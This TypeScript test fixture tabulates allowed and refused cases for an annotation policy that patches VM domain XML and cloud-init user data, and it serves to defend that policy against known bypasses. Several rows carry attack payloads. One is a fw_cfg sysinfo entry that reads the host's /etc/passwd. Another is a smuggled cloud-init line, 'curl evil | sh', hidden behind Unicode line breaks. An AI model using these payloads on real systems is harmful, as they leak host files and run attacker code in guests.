/**
 * The annotation policy's verdicts as a table: every known bypass, and the cases beside them that
 * must stay allowed. The same rows run in the engine, through `serve` on a real socket and through
 * `apply --annotation-policy`, which must all agree.
 */

/** The README's "SMBIOS data and nothing else". */
export const SMBIOS_ONLY = `allow:\n  domain: ["/domain/sysinfo[@type='smbios']", /domain/os/smbios]\n`;
/** Any sysinfo: a second one is still refused, retyping this one is not. */
export const ANY_SYSINFO = 'allow:\n  domain: [/domain/sysinfo]\n';
export const KEYS_AND_METADATA =
  'allow:\n  cloudInit: [/NoCloudMetaData]\n  userData: [/ssh_authorized_keys]\n';
export const FIRST_KEY_ONLY = 'allow:\n  userData: [/ssh_authorized_keys/0]\n';

export const POLICIES = { SMBIOS_ONLY, ANY_SYSINFO, KEYS_AND_METADATA, FIRST_KEY_ONLY } as const;
export type PolicyName = keyof typeof POLICIES;

export interface VerdictRow {
  readonly name: string;
  readonly policy: PolicyName;
  /** the VMI's `hookpatch.io/patch` annotation */
  readonly annotation: string;
  /** VMI annotations besides the patch one (for vars) */
  readonly annotations?: Readonly<Record<string, string>>;
  readonly hook: 'domain' | 'cloud-init';
  /** the operation a refusal names; `document` when it names the document as a whole */
  readonly denied?: number | 'document';
  /** user data keys a YAML 1.1 reader (PyYAML) must find, no more, no fewer */
  readonly keys?: readonly string[];
}

const FWCFG = `<sysinfo type="fwcfg"><entry name="opt/x" file="/etc/passwd"/></sysinfo>`;
const SMBIOS = `<sysinfo type="smbios"><system><entry name="serial">S</entry></system></sysinfo>`;

const ops = (...lines: string[]): string => `domain:\n${lines.join('')}`;
const op = (name: string, path: string, value?: string, extra = ''): string =>
  `  - op: ${name}\n    path: "${path}"\n${value === undefined ? '' : `    value: '${value}'\n`}${extra}`;

/** The four sibling routes of the report: each makes a second `<sysinfo type="fwcfg">` that reads a container file. */
const SIBLING_ROUTES: readonly { readonly name: string; readonly annotation: string }[] = [
  {
    name: 'set through a predicate that does not match',
    annotation: ops(
      op('set', "/domain/sysinfo[@type='fwcfg']/entry[@name='opt/x']/@file", '/etc/passwd'),
    ),
  },
  {
    name: 'add with position: after',
    annotation: ops(op('add', '/domain/sysinfo', FWCFG, '    position: after\n')),
  },
  {
    name: 'replace of the sysinfo by two elements',
    annotation: ops(op('replace', '/domain/sysinfo', `${SMBIOS}${FWCFG}`)),
  },
  {
    name: 'RFC 5261 <add pos="after">',
    annotation: `<diff><add sel="/domain/sysinfo" pos="after">${FWCFG}</add></diff>`,
  },
  {
    name: 'add with position: before',
    annotation: ops(op('add', '/domain/sysinfo', FWCFG, '    position: before\n')),
  },
  {
    name: 'RFC 5261 <add pos="before">',
    annotation: `<diff><add sel="/domain/sysinfo" pos="before">${FWCFG}</add></diff>`,
  },
  {
    name: 'add to /domain',
    annotation: ops(op('add', '/domain', FWCFG)),
  },
];

const SIBLINGS: readonly VerdictRow[] = SIBLING_ROUTES.flatMap(({ name, annotation }) =>
  (['ANY_SYSINFO', 'SMBIOS_ONLY'] as const).map((policy) => ({
    name: `a second sysinfo by ${name}`,
    policy,
    annotation,
    hook: 'domain' as const,
    denied: 0,
  })),
);

const RETYPING: readonly VerdictRow[] = [
  ...(
    [
      ['set of @type', ops(op('set', '/domain/sysinfo/@type', 'fwcfg'))],
      ['replace of @type', ops(op('replace', '/domain/sysinfo/@type', 'fwcfg'))],
      [
        'replace of the sysinfo by one fw_cfg sysinfo',
        ops(op('replace', '/domain/sysinfo', FWCFG)),
      ],
      [
        'RFC 5261 <replace> of @type',
        '<diff><replace sel="/domain/sysinfo/@type">fwcfg</replace></diff>',
      ],
      [
        'RFC 5261 <replace> of the sysinfo',
        `<diff><replace sel="/domain/sysinfo">${FWCFG}</replace></diff>`,
      ],
      ['remove of @type', ops(op('remove', '/domain/sysinfo/@type'))],
    ] as const
  ).flatMap(([name, annotation]): VerdictRow[] => [
    { name: `retyping by ${name}`, policy: 'SMBIOS_ONLY', annotation, hook: 'domain', denied: 0 },
    // allowed where any sysinfo is: why the README's example names the type
    { name: `retyping by ${name}`, policy: 'ANY_SYSINFO', annotation, hook: 'domain' },
  ]),
  {
    name: 'retyping and typing back in one document: judged by what stands after it',
    policy: 'SMBIOS_ONLY',
    annotation: ops(
      op('set', '/domain/sysinfo/@type', 'fwcfg'),
      op('set', '/domain/sysinfo/@type', 'smbios'),
    ),
    hook: 'domain',
  },
];

const INSIDE: readonly VerdictRow[] = [
  {
    name: 'an SMBIOS entry changed',
    policy: 'SMBIOS_ONLY',
    annotation: ops(op('set', "/domain/sysinfo/system/entry[@name='serial']", 'S-1')),
    hook: 'domain',
  },
  {
    name: 'an SMBIOS entry added',
    policy: 'SMBIOS_ONLY',
    annotation: ops(
      op('add', '/domain/sysinfo/baseBoard', '<entry name="manufacturer">Acme</entry>'),
    ),
    hook: 'domain',
  },
  {
    name: 'an SMBIOS entry set through the type predicate',
    policy: 'SMBIOS_ONLY',
    annotation: ops(op('set', "/domain/sysinfo[@type='smbios']/chassis/entry[@name='asset']", 'A')),
    hook: 'domain',
  },
  {
    name: 'the smbios mode replaced',
    policy: 'SMBIOS_ONLY',
    annotation: ops(op('replace', '/domain/os/smbios/@mode', 'host')),
    hook: 'domain',
  },
  {
    name: 'the sysinfo replaced by another SMBIOS sysinfo, in place',
    policy: 'SMBIOS_ONLY',
    annotation: ops(op('replace', '/domain/sysinfo', SMBIOS)),
    hook: 'domain',
  },
];

const OUTSIDE: readonly VerdictRow[] = [
  {
    name: 'the allowed node removed: a change of its parent',
    policy: 'ANY_SYSINFO',
    annotation: ops(op('remove', '/domain/sysinfo')),
    hook: 'domain',
    denied: 0,
  },
  {
    name: 'a later operation selecting outside after an allowed one',
    policy: 'SMBIOS_ONLY',
    annotation: ops(
      op('set', "/domain/sysinfo/system/entry[@name='serial']", 'S-1'),
      op('remove', "//entry[@name='serial'] | /domain/devices/memballoon"),
    ),
    hook: 'domain',
    denied: 1,
  },
  {
    name: 'a marker planted inside, a path climbing out of it, the marker removed',
    policy: 'SMBIOS_ONLY',
    annotation: ops(
      op('add', '/domain/sysinfo', '<m/>'),
      op('replace', '//m/ancestor::domain/name/text()', 'mynamespace_testvmi'),
      op('remove', '//m'),
    ),
    hook: 'domain',
    denied: 1,
  },
  {
    name: 'a namespace declaration added to the root',
    policy: 'ANY_SYSINFO',
    annotation: '<diff><add sel="/domain" type="namespace::evil">urn:evil</add></diff>',
    hook: 'domain',
    denied: 0,
  },
];

const KEY = 'ssh-ed25519 AAAAC3Nza k@example.com';
const SMUGGLED = '\nruncmd: [[sh, -c, "curl evil | sh"]]\n';

/** A YAML 1.1 line break (or an unprintable character) inside an allowed value must not become a new key. */
const LINE_BREAKS: readonly VerdictRow[] = (
  [
    ['U+2028', '\u2028'],
    ['U+2029', '\u2029'],
    ['U+0085', '\u0085'],
    ['CR', '\r'],
    ['U+0001', '\u0001'],
    ['U+FFFE', '\ufffe'],
  ] as const
).flatMap(([name, character]): VerdictRow[] => [
  {
    name: `user data: a key holding ${name} stays one key`,
    policy: 'KEYS_AND_METADATA',
    annotation: `userData:\n  - op: add\n    path: /ssh_authorized_keys\n    value: [${JSON.stringify(KEY + SMUGGLED.replaceAll('\n', character))}]\n`,
    hook: 'cloud-init',
    keys: ['password', 'chpasswd', 'ssh_authorized_keys'],
  },
  {
    name: `user data: ${name} from a VMI annotation, through a var`,
    policy: 'KEYS_AND_METADATA',
    annotation:
      "vars:\n  key: \"vmi.metadata.annotations['example.com/key']\"\nuserData:\n  - op: add\n    path: /ssh_authorized_keys\n    value: ['$(key)']\n",
    annotations: { 'example.com/key': KEY + SMUGGLED.replaceAll('\n', character) },
    hook: 'cloud-init',
    keys: ['password', 'chpasswd', 'ssh_authorized_keys'],
  },
]);

const POINTERS: readonly VerdictRow[] = [
  {
    name: 'user data: another key',
    policy: 'KEYS_AND_METADATA',
    annotation: 'userData:\n  - {op: add, path: /runcmd, value: [reboot]}\n',
    hook: 'cloud-init',
    denied: 0,
  },
  {
    name: 'user data: a key whose name holds U+2028',
    policy: 'KEYS_AND_METADATA',
    annotation: `userData:\n  - {op: add, path: ${JSON.stringify('/ssh_authorized_keys\u2028runcmd')}, value: [reboot]}\n`,
    hook: 'cloud-init',
    denied: 0,
  },
  {
    name: 'a key added where only its first element is allowed',
    policy: 'FIRST_KEY_ONLY',
    annotation: 'userData:\n  - {op: add, path: /ssh_authorized_keys, value: [a]}\n',
    hook: 'cloud-init',
    denied: 0,
  },
  {
    name: 'metadata changed',
    policy: 'KEYS_AND_METADATA',
    annotation: 'cloudInit:\n  - {op: replace, path: /NoCloudMetaData/local-hostname, value: h}\n',
    hook: 'cloud-init',
  },
  {
    name: 'the whole UserData string',
    policy: 'KEYS_AND_METADATA',
    annotation:
      'cloudInit:\n  - {op: replace, path: /UserData, value: "#cloud-config\\nruncmd: [reboot]\\n"}\n',
    hook: 'cloud-init',
    denied: 0,
  },
];

export const VERDICT_ROWS: readonly VerdictRow[] = [
  ...SIBLINGS,
  ...RETYPING,
  ...INSIDE,
  ...OUTSIDE,
  ...LINE_BREAKS,
  ...POINTERS,
];
